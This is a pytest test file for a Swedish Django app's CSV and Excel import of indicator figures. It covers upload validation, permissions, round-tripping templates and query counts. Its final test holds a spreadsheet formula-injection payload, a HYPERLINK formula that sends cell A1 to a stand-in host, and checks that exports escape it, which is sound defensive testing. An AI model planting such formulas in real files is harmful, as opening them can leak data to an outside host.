"""The upload pages for own key figures (one indicator, or every indicator of an organ), their template
CSV files, and who may use them."""

import io
from decimal import Decimal

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from styrkraft.core.models import AuditRecord
from styrkraft.indicators import fileimport
from tests import factories as f


@pytest.fixture
def goal(board_a, target_areas):
    return f.GoalFactory(organ=board_a, target_area=target_areas[0], title="Fler cyklar")


@pytest.fixture
def indicator(goal):
    indicator = f.IndicatorFactory(
        goal=goal, code="andel-cykel", title="Andel som cyklar", baseline_year=2022
    )
    f.IndicatorValueFactory(indicator=indicator, year=2022, value=Decimal("50"))
    f.IndicatorTargetFactory(indicator=indicator, year=2026, value=Decimal("60"))
    return indicator


@pytest.fixture
def parking(goal):
    return f.IndicatorFactory(goal=goal, code="parkering", title="Antal cykelparkeringar", baseline_year=2022)


def import_url(indicator) -> str:
    return reverse("indicators:import", args=[indicator.pk])


def organ_url(organ) -> str:
    return reverse("indicators:organ_import", args=[organ.slug])


def upload(name: str, text: str | bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, text.encode() if isinstance(text, str) else text)


def state(*indicators) -> tuple:
    return (
        [list(i.values.order_by("year").values_list("year", "value")) for i in indicators],
        [list(i.targets.order_by("year").values_list("year", "value")) for i in indicators],
        AuditRecord.objects.count(),
    )


def messages_of(response) -> list[str]:
    return [str(m) for m in response.context["messages"]]


def test_editor_imports_a_csv_for_one_indicator(client_a, indicator):
    csv = "\ufeffår;utfall;målvärde\n2022;50;\n2023;52,5;\n2026;;62\n"
    response = client_a.post(import_url(indicator), {"fil": upload("cykel.csv", csv)}, follow=True)
    assert response.redirect_chain == [(reverse("indicators:figures", args=[indicator.pk]), 302)]
    assert messages_of(response) == ["Filen är importerad: 1 nytt värde, 1 ändrat och 1 oförändrat."]
    assert state(indicator)[:2] == (
        [[(2022, Decimal("50.00")), (2023, Decimal("52.50"))]],
        [[(2026, Decimal("62.00"))]],
    )


def test_editor_imports_an_excel_file_for_the_whole_organ(client_a, board_a, indicator, parking):
    workbook = openpyxl.Workbook()
    for row in (
        ["nyckeltal", "år", "utfall", "målvärde"],
        ["andel-cykel", 2023, 52.5, None],
        ["parkering", 2023, 1200, 1500],
    ):
        workbook.active.append(row)
    out = io.BytesIO()
    workbook.save(out)
    response = client_a.post(organ_url(board_a), {"fil": upload("organ.xlsx", out.getvalue())})
    assert (response.status_code, response["Location"]) == (
        302,
        reverse("steering:organ", args=[board_a.slug]),
    )
    assert state(indicator, parking)[:2] == (
        [[(2022, Decimal("50.00")), (2023, Decimal("52.50"))], [(2023, Decimal("1200.00"))]],
        [[(2026, Decimal("60.00"))], [(2023, Decimal("1500.00"))]],
    )


def test_a_bad_file_changes_nothing_and_lists_every_problem(client_a, board_a, indicator, parking):
    before = state(indicator, parking)
    csv = "nyckeltal;år;utfall\nandel-cykel;2023;52\nandel-cykel;20x4;1\nokänt;2023;1\n"
    response = client_a.post(organ_url(board_a), {"fil": upload("organ.csv", csv)})
    assert response.status_code == 200
    assert response.context["form"].non_field_errors() == [
        "Rad 3, kolumn år: 20x4 är inget år.",
        "Rad 4, kolumn nyckeltal: Nämnd A har inget nyckeltal med id okänt.",
    ]
    html = response.content.decode()
    assert '<h2 id="error-summary-heading">Filen importerades inte</h2>' in html
    assert "<li>Rad 3, kolumn år: 20x4 är inget år.</li>" in html
    assert state(indicator, parking) == before


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("tom.csv", b"", "Filen är tom."),
        (
            "bild.png",
            b"\x89PNG",
            "Filtypen stöds inte (bild.png). Ladda upp en CSV-fil (.csv) eller en Excel-fil (.xlsx).",
        ),
        (
            "stor.csv",
            b"x" * (fileimport.MAX_FILE_BYTES + 1),
            "Filen är för stor (1,0 MB). Största tillåtna storlek är 1,0 MB.",
        ),
    ],
)
def test_files_refused_as_a_whole(client_a, indicator, name, content, message):
    before = state(indicator)
    response = client_a.post(import_url(indicator), {"fil": upload(name, content)})
    assert (response.status_code, response.context["form"].non_field_errors()) == (200, [message])
    assert state(indicator) == before


def test_no_file_chosen(client_a, indicator):
    response = client_a.post(import_url(indicator), {})
    assert (response.status_code, response.context["form"].errors) == (
        200,
        {"fil": ["Detta fält måste fyllas i."]},
    )


@pytest.mark.parametrize("url", ["indicator", "organ"])
@pytest.mark.parametrize(
    ("client_name", "status"), [("client_b", 403), ("client_reader", 403), ("anonymous", 302)]
)
def test_others_may_not_import(request, board_a, indicator, url, client_name, status):
    client = request.getfixturevalue(client_name)
    address = import_url(indicator) if url == "indicator" else organ_url(board_a)
    before = state(indicator)
    assert client.get(address).status_code == status
    response = client.post(address, {"fil": upload("cykel.csv", "år;utfall\n2023;1\n")})
    assert response.status_code == status
    assert state(indicator) == before


def test_the_figures_page_links_to_the_import(client_a, indicator):
    html = client_a.get(reverse("indicators:figures", args=[indicator.pk])).content.decode()
    assert (
        f'<a href="{import_url(indicator)}">Importera utfall och målvärden från en fil (CSV eller Excel)</a>'
        in html
    )


def test_the_template_holds_the_stored_figures_and_imports_back_unchanged(client_a, editor_a, indicator):
    response = client_a.get(reverse("indicators:import_template", args=[indicator.pk]))
    assert (response.status_code, response["Content-Type"], response["Content-Disposition"]) == (
        200,
        "text/csv; charset=utf-8",
        'attachment; filename="nyckeltal-andel-cykel.csv"',
    )
    text = response.content.decode("utf-8")
    assert text.splitlines()[:5] == ["\ufeffår;utfall;målvärde", "2019;;", "2020;;", "2021;;", "2022;50;"]
    assert "2026;;60" in text.splitlines()
    before = state(indicator)
    response = client_a.post(
        import_url(indicator), {"fil": upload("mall.csv", response.content)}, follow=True
    )
    assert messages_of(response) == ["Filen är importerad: 0 nya värden, 0 ändrade och 2 oförändrade."]
    assert state(indicator) == before


def test_the_organ_page_lists_the_indicator_ids_and_its_template_names_them(
    client_a, board_a, indicator, parking
):
    html = client_a.get(organ_url(board_a)).content.decode()
    assert '<th scope="row"><code>andel-cykel</code></th><td>Andel som cyklar</td>' in html
    assert '<th scope="row"><code>parkering</code></th><td>Antal cykelparkeringar</td>' in html
    lines = (
        client_a.get(reverse("indicators:organ_import_template", args=[board_a.slug]))
        .content.decode()
        .splitlines()
    )
    assert lines[0] == "\ufeffnyckeltal;titel;år;utfall;målvärde"
    assert "andel-cykel;Andel som cyklar;2022;50;" in lines
    assert "parkering;Antal cykelparkeringar;2019;;" in lines


@pytest.mark.parametrize("name", ["indicators:import_template", "indicators:organ_import_template"])
def test_others_may_not_download_the_template(client_b, board_a, indicator, name):
    arg = indicator.pk if name == "indicators:import_template" else board_a.slug
    assert client_b.get(reverse(name, args=[arg])).status_code == 403


def test_organ_page_and_template_use_a_fixed_number_of_queries(
    client_a, board_a, goal, indicator, django_assert_max_num_queries
):
    def counts() -> list[int]:
        from django.db import connection
        from django.test.utils import CaptureQueriesContext

        found = []
        for url in (organ_url(board_a), reverse("indicators:organ_import_template", args=[board_a.slug])):
            with CaptureQueriesContext(connection) as context:
                assert client_a.get(url).status_code == 200
            found.append(len(context))
        return found

    small = counts()
    for n in range(10):
        more = f.IndicatorFactory(goal=goal, code=f"extra-{n}")
        f.IndicatorValueFactory(indicator=more, year=2023)
        f.IndicatorTargetFactory(indicator=more, year=2026)
    assert counts() == small
    with django_assert_max_num_queries(12):
        client_a.get(organ_url(board_a))


FORMULA_TITLE = '=HYPERLINK("http://example.invalid/?x="&A1,"Klicka")'


def test_the_organ_template_writes_a_formula_title_as_text_and_imports_back(client_a, board_a, indicator):
    """Issue 8, point 3: a title that a spreadsheet would run as a formula is written with a quote in
    front; the numbers (a negative one too) stay numbers, and the template imports back unchanged."""
    type(indicator).objects.filter(pk=indicator.pk).update(title=FORMULA_TITLE)
    f.IndicatorValueFactory(indicator=indicator, year=2023, value=Decimal("-5.2"))
    response = client_a.get(reverse("indicators:organ_import_template", args=[board_a.slug]))
    lines = response.content.decode("utf-8").splitlines()
    assert lines[5] == 'andel-cykel;"\'=HYPERLINK(""http://example.invalid/?x=""&A1,""Klicka"")";2023;-5,2;'
    assert not any(";=" in line or line.startswith("=") for line in lines)
    before = state(indicator)
    imported = client_a.post(organ_url(board_a), {"fil": upload("mall.csv", response.content)}, follow=True)
    assert messages_of(imported) == ["Filen är importerad: 0 nya värden, 0 ändrade och 3 oförändrade."]
    assert state(indicator) == before
